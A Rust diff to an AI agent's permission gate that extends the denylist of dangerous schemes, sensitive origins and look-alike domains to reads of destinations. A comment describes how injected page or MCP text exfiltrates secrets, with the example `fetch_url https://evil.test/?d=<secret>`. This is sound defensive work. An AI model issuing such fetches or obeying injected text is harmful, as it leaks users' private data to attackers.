@@ -146,6 +146,13 @@ pub fn decide(input: &GateInput<'_>) -> Verdict {
     match info.access {
         Access::AlwaysAllowed => return Verdict::Allow,
         Access::Read => {
+            // A read of a destination fetches it: the places no write may go are no place to
+            // read from either (a sensitive site's pages answer with the user's data).
+            if is_destination(info.target)
+                && let Some(denied) = origin.and_then(|origin| off_limits(input, origin))
+            {
+                return denied;
+            }
             // A read that fetches a destination the page or an MCP server chose is how
             // injected text exfiltrates (`fetch_url https://evil.test/?d=<secret>`), so a tainted
             // destination asks under every policy and through grants.
@@ -169,28 +176,9 @@ pub fn decide(input: &GateInput<'_>) -> Verdict {
         Access::Write => {}
     }
 
-    // Step 1: dangerous schemes.
-    if let Some(origin) = origin
-        && origin.scheme.is_dangerous()
-    {
-        return deny(format!("{}: destinations are never allowed", origin.scheme.name()), None);
-    }
-    // Step 2: the sensitive-origin denylist; no rule overrides it.
-    if let Some(origin) = origin
-        && let Some(pattern) = input.sensitive.find(origin)
-    {
-        return deny(format!("{origin} is a sensitive origin ({})", describe(pattern)), None);
-    }
-    // A look-alike of a sensitive origin is treated as that origin: whoever registered
-    // `pаypal.com` wants it mistaken for PayPal.
-    if let Some(origin) = origin
-        && let Some(imitated) = origin.look_alike()
-        && let Some(pattern) = input.sensitive.find(&imitated)
-    {
-        return deny(
-            format!("{origin} imitates {imitated}, a sensitive origin ({})", describe(pattern)),
-            None,
-        );
+    // Steps 1 and 2: dangerous schemes, then the sensitive-origin denylist.
+    if let Some(denied) = origin.and_then(|origin| off_limits(input, origin)) {
+        return denied;
     }
 
     // Where the action leads: a link or a submit is judged like a navigation to there.
@@ -340,6 +328,28 @@ fn strings_in(value: &Value, path: &str, found: &mut impl FnMut(&str, &str)) {
         }
         Value::Null | Value::Bool(_) | Value::Number(_) | Value::Object(_) => {}
     }
+}
+
+/// The denial of an origin no call may touch: a dangerous scheme, a sensitive origin (no rule
+/// overrides the denylist) or a look-alike of one, which is treated as that origin: whoever
+/// registered `pаypal.com` wants it mistaken for PayPal.
+fn off_limits(input: &GateInput<'_>, origin: &Origin) -> Option<Verdict> {
+    if origin.scheme.is_dangerous() {
+        return Some(deny(
+            format!("{}: destinations are never allowed", origin.scheme.name()),
+            None,
+        ));
+    }
+    if let Some(pattern) = input.sensitive.find(origin) {
+        return Some(deny(format!("{origin} is a sensitive origin ({})", describe(pattern)), None));
+    }
+    let imitated = origin.look_alike()?;
+    input.sensitive.find(&imitated).map(|pattern| {
+        deny(
+            format!("{origin} imitates {imitated}, a sensitive origin ({})", describe(pattern)),
+            None,
+        )
+    })
 }
 
 fn is_destination(kind: TargetKind) -> bool {
